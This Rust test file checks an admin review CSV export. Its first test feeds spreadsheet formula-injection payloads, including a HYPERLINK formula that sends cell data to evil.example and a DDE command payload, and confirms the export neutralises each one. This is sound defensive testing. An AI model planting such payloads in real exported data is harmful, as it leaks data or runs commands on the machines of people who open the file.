//! The review list: what comes first, what its filters choose, and the file that a spreadsheet opens.

use serde_json::json;

use crate::app::{App, settings, until};
use crate::operator::Operator;
use crate::provider::Provider;

async fn rows(operator: &Operator<'_>, query: &str) -> Vec<csv::StringRecord> {
    let answer = operator.get(&format!("/admin/review.csv{query}")).await;
    let named = answer.headers()["content-disposition"]
        .to_str()
        .expect("text")
        .to_owned();
    assert!(
        named.starts_with("attachment") && named.contains("pennypress-review-"),
        "{named}"
    );
    let text = answer.text().await.expect("text");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<_> = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    assert_eq!(
        header[..6],
        ["asked_at", "site", "question", "answer", "rating", "comment"]
    );
    reader.records().map(|record| record.expect("a record")).collect()
}

/// Asks and gives a thumb with a word.
async fn rated(app: &App, token: &str, question: &str, rating: &str, comment: &str) -> String {
    let told = app.ask(question).visitor(token).told().await;
    let body = json!({"site": "site_a", "answer": told.answer, "rating": rating, "comment": comment});
    let request = app
        .request(reqwest::Method::POST, "/api/v1/feedback")
        .header("x-pennypress-visitor", token);
    assert_eq!(request.json(&body).send().await.expect("an answer").status(), 204);
    told.conversation
}

#[tokio::test]
async fn no_cell_of_the_export_is_a_formula() {
    let provider = Provider::start().await;
    let app = settings().models(&provider, &["echo"]).start().await;
    let operator = app.operator().await;
    let token = app.visitor().await;
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "＝1+1",
    ];
    for text in hostile {
        rated(&app, &token, text, "down", text).await;
    }
    rated(
        &app,
        &token,
        "Two \"quoted\" words,\nand a line",
        "down",
        "plain, with a comma",
    )
    .await;
    until("all are on the list", async || {
        rows(&operator, "?show=down").await.len() == 6
    })
    .await;
    let rows = rows(&operator, "?show=down").await;
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']),
                "{cell:?} in {row:?}"
            );
        }
    }
    for text in hostile {
        let found = rows.iter().find(|row| row[2] == format!("'{text}"));
        let found = found.unwrap_or_else(|| panic!("{text} in {rows:?}"));
        assert_eq!((&found[4], &found[5]), ("down", format!("'{text}").as_str()));
    }
    assert!(
        rows.iter()
            .any(|row| &row[2] == "Two \"quoted\" words,\nand a line" && &row[5] == "plain, with a comma")
    );
}

#[tokio::test]
async fn thumbs_down_come_first_and_filters_choose() {
    let provider = Provider::start().await;
    let app = settings().models(&provider, &["echo"]).start().await;
    let operator = app.operator().await;
    let token = app.visitor().await;
    let down = rated(&app, &token, "Which tea is bad?", "down", "It was cold").await;
    rated(&app, &token, "Which tea is good?", "up", "").await;
    app.ask("Which tea is green?").visitor(&token).told().await;
    app.ask("Which tea is theirs?").of_site_b().told().await;
    until("all are written", async || {
        rows(&operator, "?show=all&state=any").await.len() == 4
    })
    .await;
    let questions = async |query: &str| -> Vec<String> {
        rows(&operator, query)
            .await
            .iter()
            .map(|row| row[2].to_owned())
            .collect()
    };
    // The file is in the order of time, whatever the page puts first.
    assert_eq!(questions("").await, ["Which tea is good?", "Which tea is bad?"]);
    assert_eq!(questions("?show=up").await, ["Which tea is good?"]);
    assert_eq!(questions("?show=all&site=site_b").await, ["Which tea is theirs?"]);
    assert_eq!(questions("?show=all&site=nowhere").await, Vec::<String>::new());
    assert_eq!(questions("?show=all&from=cache").await, Vec::<String>::new());
    assert_eq!(questions("?show=all&from=model&model=echo").await.len(), 4);
    let page = operator.page("/admin/review").await;
    let (bad, good) = (page.find("Which tea is bad?"), page.find("Which tea is good?"));
    assert!(bad.is_some() && bad < good, "{page}");
    assert!(page.contains("It was cold") && !page.contains("Which tea is green?"));

    let conversation = operator.page(&format!("/admin/conversations/{down}")).await;
    assert!(
        conversation.contains("Which tea is bad?") && conversation.contains("It was cold"),
        "{conversation}"
    );
    assert!(
        !conversation.contains("Which tea is good?"),
        "another conversation of the same visitor"
    );
    let answer = rows(&operator, "?show=down").await[0][19].to_owned();
    operator
        .send(
            "/admin/review",
            &format!("/admin/answers/{answer}/handled"),
            &[
                ("handled", "yes"),
                ("note", "Told the kitchen"),
                ("back", "/admin/review"),
            ],
        )
        .await;
    assert_eq!(questions("").await, ["Which tea is good?"]);
    let handled = rows(&operator, "?state=handled").await;
    assert_eq!((handled.len(), &handled[0][16]), (1, "Told the kitchen"));
}

#[tokio::test]
async fn a_long_export_is_whole_and_in_order() {
    let app = settings().start().await;
    let operator = app.operator().await;
    // More than one batch of what is read at once, which is 500.
    let questions: Vec<String> = (0..1_030)
        .map(|n| format!("How do I install the WordPress plugin, number {n}?"))
        .collect();
    for some in questions.chunks(40) {
        futures_util::future::join_all(some.iter().map(|text| app.ask(text).whole())).await;
    }
    until("all are written", async || {
        rows(&operator, "?show=all").await.len() == questions.len()
    })
    .await;
    let rows = rows(&operator, "?show=all").await;
    let mut told: Vec<_> = rows.iter().map(|row| row[2].to_owned()).collect();
    assert!(rows.is_sorted_by(|a, b| a[0] >= b[0]), "the newest first");
    told.sort();
    let mut asked = questions;
    asked.sort();
    assert_eq!(told, asked);
}
